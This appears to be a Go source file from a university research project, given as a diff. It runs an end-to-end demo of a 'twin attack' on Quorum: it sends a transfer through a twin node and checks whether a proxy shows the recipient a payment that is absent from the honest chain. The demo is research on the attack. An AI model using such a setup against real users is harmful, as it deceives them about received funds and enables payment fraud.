@@ -0,0 +1,151 @@
+package main
+
+/*
+Author: Bastien Faivre
+Project: EPFL Master Semester Project
+Description: This file contains the end-to-end demo of the twin attack on
+Quorum.
+*/
+
+import (
+	"fmt"
+	"io"
+	"math/big"
+	"os"
+	"semester-project/wire"
+	"semester-project/wire/chains"
+	"text/tabwriter"
+	"time"
+)
+
+//------------------------------------------------------------------------------
+// Types
+//------------------------------------------------------------------------------
+
+// A quorumView is what a Quorum node shows of the transfer of the demo.
+type quorumView struct {
+	tx            *chains.QuorumTx
+	balanceBefore *big.Int
+	balanceAfter  *big.Int
+}
+
+//------------------------------------------------------------------------------
+// Constants
+//------------------------------------------------------------------------------
+
+// DEMO_POLL_INTERVAL is the interval at which the demo checks whether the
+// transfer is included.
+const DEMO_POLL_INTERVAL = 500 * time.Millisecond
+
+//------------------------------------------------------------------------------
+// Private methods
+//------------------------------------------------------------------------------
+
+// transaction returns the state of the transfer in the view.
+func (v *quorumView) transaction() string {
+	switch {
+	case v.tx == nil:
+		return "not found"
+	case v.tx.BlockNumber == 0:
+		return "pending"
+	default:
+		return fmt.Sprintf("included in block %d", v.tx.BlockNumber)
+	}
+}
+
+// received returns the amount received by Bob in the view.
+func (v *quorumView) received() *big.Int {
+	return new(big.Int).Sub(v.balanceAfter, v.balanceBefore)
+}
+
+// demoQuorum sends the transfer from Alice to Bob on the twin node, waits for
+// it to be included, and compares what the proxy and the honest node show of
+// it. It prints the comparison and returns true if the deception worked,
+// i.e. if the proxy shows the transfer while the honest chain does not.
+func demoQuorum(w io.Writer, proxyAddr string, twinAddr string, honestAddr string, alice string, bob string, value *big.Int, timeout time.Duration) (bool, error) {
+	views := []struct {
+		name string
+		addr string
+		view quorumView
+	}{
+		{name: "PROXY (" + proxyAddr + ")", addr: proxyAddr},
+		{name: "HONEST CHAIN (" + honestAddr + ")", addr: honestAddr},
+	}
+	var err error
+	for i := range views {
+		views[i].view.balanceBefore, err = chains.Balance(wire.ChainQuorum, views[i].addr, "", bob)
+		if err != nil {
+			return false, fmt.Errorf("could not get the balance of Bob from %s: %w", views[i].addr, err)
+		}
+	}
+	fmt.Fprintf(w, "Sending %s ether from Alice (%s) to Bob (%s) on the twin node %s\n", chains.FormatEther(value), alice, bob, twinAddr)
+	hash, err := chains.SendTx(twinAddr, alice, bob, value)
+	if err != nil {
+		return false, fmt.Errorf("could not send the transfer: %w", err)
+	}
+	fmt.Fprintln(w, "Transaction", hash)
+	deadline := time.Now().Add(timeout)
+	for {
+		included, err := chains.TxIncluded(wire.ChainQuorum, twinAddr, "", hash)
+		if err != nil {
+			return false, fmt.Errorf("could not get the receipt of the transfer: %w", err)
+		}
+		if included {
+			break
+		}
+		if time.Now().After(deadline) {
+			return false, fmt.Errorf("the transfer was not included on the twin node after %s", timeout)
+		}
+		time.Sleep(DEMO_POLL_INTERVAL)
+	}
+	for i := range views {
+		views[i].view.tx, err = chains.Transaction(views[i].addr, hash)
+		if err != nil {
+			return false, fmt.Errorf("could not get the transfer from %s: %w", views[i].addr, err)
+		}
+		views[i].view.balanceAfter, err = chains.Balance(wire.ChainQuorum, views[i].addr, "", bob)
+		if err != nil {
+			return false, fmt.Errorf("could not get the balance of Bob from %s: %w", views[i].addr, err)
+		}
+	}
+	proxy, honest := &views[0].view, &views[1].view
+	fmt.Fprintln(w)
+	tw := tabwriter.NewWriter(w, 0, 0, 2, ' ', 0)
+	fmt.Fprintf(tw, "\t%s\t%s\n", views[0].name, views[1].name)
+	fmt.Fprintf(tw, "Transaction\t%s\t%s\n", proxy.transaction(), honest.transaction())
+	fmt.Fprintf(tw, "Bob's balance before\t%s ether\t%s ether\n", chains.FormatEther(proxy.balanceBefore), chains.FormatEther(honest.balanceBefore))
+	fmt.Fprintf(tw, "Bob's balance after\t%s ether\t%s ether\n", chains.FormatEther(proxy.balanceAfter), chains.FormatEther(honest.balanceAfter))
+	fmt.Fprintf(tw, "Received by Bob\t%s ether\t%s ether\n", chains.FormatEther(proxy.received()), chains.FormatEther(honest.received()))
+	tw.Flush()
+	fmt.Fprintln(w)
+	deceived := proxy.tx != nil && proxy.tx.BlockNumber != 0 && proxy.received().Cmp(value) >= 0 &&
+		honest.tx == nil && honest.received().Sign() == 0
+	switch {
+	case deceived:
+		fmt.Fprintln(w, "The deception worked: through the proxy, Bob sees a transfer that does not exist on the honest chain.")
+	case honest.tx != nil:
+		fmt.Fprintln(w, "The deception failed: the transfer exists on the honest chain, the twin and honest nodes may be connected.")
+	default:
+		fmt.Fprintln(w, "The deception failed: the proxy does not show the transfer, check that its response node is the twin node.")
+	}
+	return deceived, nil
+}
+
+// runDemoQuorum runs the demo on Quorum.
+// It returns the exit code of the controller.
+func runDemoQuorum(proxyAddr string, twinAddr string, honestAddr string, alice string, bob string, amount string, timeout time.Duration) int {
+	value, err := chains.ParseEther(amount)
+	if err != nil {
+		fmt.Println(err)
+		return EXIT_ERROR
+	}
+	deceived, err := demoQuorum(os.Stdout, proxyAddr, twinAddr, honestAddr, alice, bob, value, timeout)
+	if err != nil {
+		fmt.Println(err)
+		return EXIT_ERROR
+	}
+	if !deceived {
+		return EXIT_FAILED
+	}
+	return 0
+}